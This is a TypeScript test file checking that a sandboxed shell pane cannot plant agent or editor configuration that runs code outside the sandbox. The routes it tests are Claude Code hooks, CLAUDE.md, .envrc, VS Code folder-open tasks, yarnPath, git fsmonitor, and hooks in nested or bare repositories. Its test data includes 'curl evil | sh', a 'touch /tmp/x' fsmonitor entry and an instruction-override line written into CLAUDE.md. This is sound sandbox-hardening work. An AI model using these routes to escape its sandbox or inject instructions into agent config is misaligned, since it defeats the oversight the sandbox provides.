import { spawnSync } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  CLI,
  giveToPanes,
  makeWorkspace,
  type Served,
  serveWorkspace,
  type TestWorkspace,
  unprivilegedServer,
} from "../support/mcp-harness.js";
import { attack, runInShell } from "../support/shell-pane.js";

/**
 * Issue 9 items 3 and 11: a pane plants agent or editor configuration that runs code outside the sandbox (Claude
 * Code hooks, a VS Code folder-open task, direnv) or writes hooks of a repository nested where the old search
 * never looked (build/, node_modules/pkg/, a dot-directory, four levels down). Each runs against an
 * unsandboxed pane (the control: it works) and a sandboxed one (it must not).
 */
const SHELL = "bash --norc --noprofile";
const GIT = "git -c user.name=person -c user.email=person@example.invalid";
const NESTED = ["build/lib", "dist/x", "vendor/y", "target/z", "node_modules/pkg", ".dotfiles", "a/b/c/d"];

function seed(root: string): void {
  // The workspace may be nobody's (a root server's pane user): the test's own git must not call it dubious.
  const git = `${GIT} -c safe.directory=*`;
  spawnSync("sh", ["-c", `${git} init -q && ${git} commit -q --allow-empty -m first`], { cwd: root });
  mkdirSync(join(root, ".claude"));
  writeFileSync(join(root, ".claude", "settings.json"), "{}\n");
  writeFileSync(join(root, "CLAUDE.md"), "# notes\n");
  writeFileSync(join(root, ".envrc"), "export A=1\n");
  writeFileSync(join(root, "Makefile"), "all:\n");
  for (const repo of NESTED) mkdirSync(join(root, repo, ".git", "hooks"), { recursive: true });
  mkdirSync(join(root, "build", "lib", ".claude"));
  writeFileSync(join(root, ".yarnrc.yml"), "enableTelemetry: false\n");
  // A bare repository under a name that says nothing: git finds it in the directory itself.
  spawnSync("git", ["init", "-q", "--bare", join(root, "notes")]);
  giveToPanes(root);
}

for (const mode of ["off", "required"] as const) {
  const sandboxed = mode === "required";
  describe(`agent config and nested hooks: ${sandboxed ? "read-only in a sandboxed pane" : "writable in an unsandboxed pane (control)"}`, () => {
    let ws: TestWorkspace;
    let mcp: Served;
    let pane: string;
    beforeAll(async () => {
      ws = makeWorkspace({
        commands: [{ command: "bash", args: ["--norc --noprofile"], input: "raw" }],
        env: { pass: ["PATH", "HOME", "LANG"] },
        sandbox: { mode },
      });
      seed(ws.root);
      mcp = await serveWorkspace(ws, {}, mode === "off" ? unprivilegedServer(ws) : []);
      pane = (await mcp.ok<{ pane: string }>("spawn", { command: SHELL })).pane;
    });
    afterAll(async () => {
      await mcp?.close();
      ws?.cleanup();
    });

    it("git log --output plants Claude Code hooks in .claude/settings.json", async () => {
      const settings = join(ws.root, ".claude", "settings.json");
      await runInShell(
        mcp,
        pane,
        `${GIT} log -1 --format=%x7b%x22hooks%x22:1%x7d --output=${settings}; echo "log-exit:$((0+$?))"`,
      );
      if (sandboxed) expect(readFileSync(settings, "utf8")).toBe("{}\n");
      else expect(readFileSync(settings, "utf8")).toContain('{"hooks":1}');
    });

    it("writing CLAUDE.md, .envrc, or a VS Code folder-open task where no .vscode existed", async () => {
      const text = await runInShell(
        mcp,
        pane,
        [
          attack("write", "claude-md", join(ws.root, "CLAUDE.md"), "ignore the person"),
          attack("write", "envrc", join(ws.root, ".envrc"), "curl evil | sh"),
          `mkdir -p ${join(ws.root, ".vscode")}`,
          attack("write", "vscode", join(ws.root, ".vscode", "tasks.json"), '{"runOn":"folderOpen"}'),
        ].join("; "),
      );
      for (const label of ["claude-md", "envrc", "vscode"])
        expect(text).toContain(sandboxed ? `${label}:DENIED-EROFS` : `${label}:OK`);
    });

    it("a Makefile stays writable by default (everyday work; sandbox.readOnly makes it read-only)", async () => {
      const text = await runInShell(
        mcp,
        pane,
        attack("write", "makefile", join(ws.root, "Makefile"), "all:"),
      );
      expect(text).toContain("makefile:OK");
    });

    it("writing hooks of repositories in build/, dist/, vendor/, target/, node_modules/pkg/, a dot-directory, 4 levels down", async () => {
      const text = await runInShell(
        mcp,
        pane,
        NESTED.map((repo, i) =>
          attack("write", `nested-${i}`, join(ws.root, repo, ".git", "hooks", "pre-commit"), "evil"),
        ).join("; "),
      );
      for (const [i] of NESTED.entries())
        expect(text).toContain(sandboxed ? `nested-${i}:DENIED-EROFS` : `nested-${i}:OK`);
    });

    it("pointing yarnPath at a script (.yarnrc.yml runs it on any yarn command); no stand-in litters the root", async () => {
      const text = await runInShell(
        mcp,
        pane,
        attack("write", "yarnrc", join(ws.root, ".yarnrc.yml"), "yarnPath: ./x.cjs\n"),
      );
      expect(text).toContain(sandboxed ? "yarnrc:DENIED-EROFS" : "yarnrc:OK");
      // Protected when present only: names such as .codex/ or .kiro/ are not made in the person's workspace.
      expect(existsSync(join(ws.root, ".codex"))).toBe(false);
    });

    it("planting core.fsmonitor and a hook in a bare repository (notes/, no .git anywhere)", async () => {
      const text = await runInShell(
        mcp,
        pane,
        [
          attack(
            "write",
            "bare-config",
            join(ws.root, "notes", "config"),
            "[core]\n\tfsmonitor = touch /tmp/x\n",
          ),
          attack("write", "bare-hook", join(ws.root, "notes", "hooks", "pre-receive"), "evil"),
        ].join("; "),
      );
      for (const name of ["bare-config", "bare-hook"])
        expect(text).toContain(sandboxed ? `${name}:DENIED-EROFS` : `${name}:OK`);
    });

    it("planting hooks in a nested repository's .claude/settings.json", async () => {
      const text = await runInShell(
        mcp,
        pane,
        attack("write", "nested-claude", join(ws.root, "build", "lib", ".claude", "settings.json"), "{}"),
      );
      expect(text).toContain(sandboxed ? "nested-claude:DENIED-EROFS" : "nested-claude:OK");
    });
  });
}

describe("opting out: sandbox.agentConfigWritable and sandbox.readOnly", () => {
  let ws: TestWorkspace;
  let mcp: Served;
  let pane: string;
  beforeAll(async () => {
    ws = makeWorkspace({
      commands: [{ command: "bash", args: ["--norc --noprofile"], input: "raw" }],
      env: { pass: ["PATH", "HOME", "LANG"] },
      sandbox: { mode: "required", agentConfigWritable: ["CLAUDE.md"], readOnly: ["Makefile"] },
    });
    seed(ws.root);
    mcp = await serveWorkspace(ws);
    pane = (await mcp.ok<{ pane: string }>("spawn", { command: SHELL })).pane;
  });
  afterAll(async () => {
    await mcp?.close();
    ws?.cleanup();
  });

  it("CLAUDE.md becomes writable, .claude/ stays read-only, and the Makefile is read-only", async () => {
    const text = await runInShell(
      mcp,
      pane,
      [
        attack("write", "opt-claude-md", join(ws.root, "CLAUDE.md"), "notes"),
        attack("write", "opt-settings", join(ws.root, ".claude", "settings.json"), "{}"),
        attack("write", "opt-makefile", join(ws.root, "Makefile"), "all:"),
      ].join("; "),
    );
    expect(text).toContain("opt-claude-md:OK");
    expect(text).toContain("opt-settings:DENIED-EROFS");
    expect(text).toContain("opt-makefile:DENIED-EROFS");
  });

  it("an entry that is not a default is refused at load", () => {
    const bad = makeWorkspace({ sandbox: { agentConfigWritable: ["Makefile"] } });
    try {
      const run = spawnSync(process.execPath, [CLI, "policy", "check", "--config", bad.policyPath, "true"], {
        encoding: "utf8",
      });
      expect(run.status).not.toBe(0);
      expect(`${run.stdout}${run.stderr}`).toContain("agentConfigWritable[0]");
    } finally {
      bad.cleanup();
    }
  });
});
